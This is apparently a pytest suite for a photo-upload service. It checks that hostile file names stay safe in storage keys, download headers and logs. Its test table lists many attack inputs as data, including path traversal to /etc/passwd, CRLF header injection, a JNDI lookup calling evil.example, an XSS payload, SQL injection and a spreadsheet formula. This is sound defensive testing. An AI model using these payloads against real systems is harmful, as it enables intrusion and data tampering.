"""File names that nobody with good intent gives: kept as data, and safe wherever they appear."""

import email.message
import json
import re
import unicodedata

import pytest
import requests
from conftest import UPLOADS, encoded, picture
from PIL import Image

PHOTO = encoded(Image.new("RGB", (8, 8), "#806040"), "PNG")

# Each name, and the last segment of the key that it becomes.
NAMES = {
    "a path": ("../../etc/passwd", "passwd"),
    "a Windows path": ("C:\\photos\\..\\boot.ini", "boot.ini"),
    "an encoded path": ("..%2f..%2fetc%2fpasswd", "%2f..%2fetc%2fpasswd"),
    "a path encoded twice": ("%252e%252e%252fpasswd", "%252e%252e%252fpasswd"),
    "NUL": ("cat.jpg\0.php", "cat.jpg.php"),
    "two extensions": ("a.jpg.php", "a.jpg.php"),
    "CR LF": ("a\r\nSet-Cookie: x=1\r\n\r\n.jpg", "aSet-Cookie: x=1.jpg"),
    "a quote and a parameter": ('"; filename=x.html', '"; filename=x.html'),
    "a backslash and a quote": ('a\\";filename=x.html', '";filename=x.html'),
    "an extended parameter": ("a'; filename*=UTF-8''x.html", "a'; filename*=UTF-8''x.html"),
    "right to left": ("photo\u202egpj.exe", "photogpj.exe"),
    "isolates": ("\u2067photo\u2069.jpg", "photo.jpg"),
    "composed": ("caf\u00e9.jpg", "caf\u00e9.jpg"),
    "decomposed": ("cafe\u0301.jpg", "cafe\u0301.jpg"),
    "zero width": ("cat\u200b\ufeff.jpg", "cat\u200b\ufeff.jpg"),
    "nothing but zero width": ("\u200b", "\u200b"),
    "emoji": ("👩\u200d👩\u200d👧🏽.jpg", "👩\u200d👩\u200d👧🏽.jpg"),
    "4 kB": ("x" * 4092 + ".png", "x" * 251 + ".png"),
    "4 kB of two bytes each": ("ü" * 2046 + ".png", "ü" * 125 + ".png"),
    "4 kB without an end": ("." + "y" * 4095, "y" * 255),
    "hidden": (".htaccess", "htaccess"),
    "an option": ("-rf", "-rf"),
    "a device": ("CON", "CON"),
    "ANSI": ("\x1b[31mred\x1b[0m\x07.jpg", "[31mred[0m.jpg"),
    "C1 controls": ("\x9b31mred.jpg", "31mred.jpg"),
    "a line of the log": ("x\n2026-11-21T00:00:00Z ERROR all is lost", "x2026-11-21T00:00:00Z ERROR all is lost"),
    "a lookup": ("${jndi:ldap://evil.example/a}", "a}"),
    "a template": ("{{7*7}}${7*7}<%= 7*7 %>.jpg", "{{7*7}}${7*7}<%= 7*7 %>.jpg"),
    "a URL": ("https://evil.example/x.jpg?a=b#c", "x.jpg?a=b#c"),
    "a query": ("a.jpg?versionId=1&x=%00#top", "a.jpg?versionId=1&x=%00#top"),
    "plus and percent": ("a+b%2Bc 100%.jpg", "a+b%2Bc 100%.jpg"),
    "only spaces": ("   ", "photo.png"),
    "only dots": ("....", "photo.png"),
    "only controls": ("\r\n\t\0", "photo.png"),
    "only a slash": ("/", "photo.png"),
    "spaces that are none": ("\u00a0\u2003.jpg", "jpg"),
    "no characters": ("\ufffe\uffff.jpg", "\ufffe\uffff.jpg"),
    "markup": ("<img src=x onerror=window.pwned=1>.jpg", "<img src=x onerror=window.pwned=1>.jpg"),
    "SQL": ("'; DROP TABLE object; --.jpg", "'; DROP TABLE object; --.jpg"),
    "a formula": ("=cmd|' /C calc'!A0.csv", "C calc'!A0.csv"),
}


def download_name(file):
    """What a derivative in PNG is called when it is saved: the safe name, with the right extension, or its own."""
    if file == "photo.png":
        return "watermarked.png"
    stem, dot, extension = file.rpartition(".")
    if extension.lower() == "png" and dot:
        return file
    return f"{stem if stem and extension.lower() in ('jpg', 'jpeg') else file}.png"


@pytest.fixture(scope="module")
def uploaded(quiet):
    """Every name uploaded; the job of each, once over."""
    jobs = {}
    for title, (name, _) in NAMES.items():
        slot = quiet.slot(filename=name, contentType="image/png")
        assert requests.put(slot["url"], data=PHOTO, headers=slot["headers"]).status_code == 200, title
        jobs[title] = slot
    return {title: (slot, quiet.completed(slot["jobId"])) for title, slot in jobs.items()}


@pytest.mark.parametrize("title", NAMES)
def test_a_name_is_kept_and_its_key_is_safe(quiet, uploaded, title):
    name, file = NAMES[title]
    slot, job = uploaded[title]
    assert job["filename"].encode() == name.encode()
    assert slot["key"] == job["source"]["key"] == f"uploads/{job['jobId']}/{file}"
    assert 1 <= len(file.encode()) <= 255 and not file.startswith(".") and "/" not in file
    assert not any(unicodedata.category(character) == "Cc" for character in slot["key"])
    assert [listed["jobId"] for listed in quiet.jobs_of(slot["key"])] == [job["jobId"]]
    stored = quiet.client("s3").head_object(Bucket=UPLOADS, Key=slot["key"])
    assert stored["ContentLength"] == len(PHOTO)


@pytest.mark.parametrize("title", NAMES)
def test_a_download_is_named_as_the_photo_and_the_header_holds_nothing_else(uploaded, title):
    answer = requests.get(uploaded[title][1]["downloadUrl"])
    assert answer.status_code == 200 and answer.headers["content-type"] == "image/png"
    assert "set-cookie" not in answer.headers
    disposition = answer.headers["content-disposition"]
    # RFC 6266: one quoted string of plain ASCII, and the real name as RFC 8187 has it.
    parts = re.fullmatch(r"""attachment; filename="([ !#-\[\]-~]+)"; filename\*=UTF-8''([!#$&+.^_`|~0-9A-Za-z%-]+)""", disposition)
    assert parts and "%" not in parts[1], disposition
    expected = download_name(NAMES[title][1])
    assert requests.utils.unquote(parts[2]) == expected
    header = email.message.Message()
    header["content-disposition"] = disposition
    assert header.get_content_disposition() == "attachment" and header.get_param("filename", header="content-disposition")
    derived = header.get_params(header="content-disposition")
    assert len(derived) == 3, derived


def test_names_come_back_whole_in_notices_and_listings(quiet, uploaded):
    told = {notice["jobId"]: notice["filename"] for notice, _ in quiet.notices()}
    listed = {job["jobId"]: job["filename"] for job in quiet.get("/jobs?status=COMPLETED&limit=100").json()["jobs"]}
    for title, (slot, _) in uploaded.items():
        assert listed[slot["jobId"]] == NAMES[title][0]
        assert told[slot["jobId"]] == NAMES[title][0]


def test_the_log_has_the_safe_form_of_a_name_or_nothing(quiet, uploaded):
    log = quiet.read_log()
    assert "job queued" in log
    assert not any(unicodedata.category(character) == "Cc" for character in log if character != "\n")
    for name, file in NAMES.values():
        # Where the two are the same, the name is part of the key.
        assert name in file or name.strip("./ \n\r\t\0") == "" or name not in log, name
    for line in log.splitlines():
        assert re.match(r"\d{4}-\d\d-\d\dT[\d:.]+Z +(INFO|WARN) ", line), line


def test_an_objects_own_key_forges_no_line_of_the_log(own_darkroom):
    darkroom = own_darkroom()
    key = "uploads/x\n2026-11-21T00:00:00.000000Z ERROR all is lost\x1b[31m.png"
    darkroom.client("s3").put_object(Bucket=UPLOADS, Key=key, Body=PHOTO)
    job = darkroom.completed_by_key(key)
    assert job["source"]["key"] == key and picture(job).size == (8, 8)
    lines = [line for line in darkroom.read_log().splitlines() if "all is lost" in line]
    assert lines and all(" INFO " in line for line in lines), lines
    assert "\x1b" not in darkroom.read_log()
    assert json.loads(darkroom.get("/jobs", params={"key": key}).text)["jobs"][0]["filename"] == key.removeprefix("uploads/")
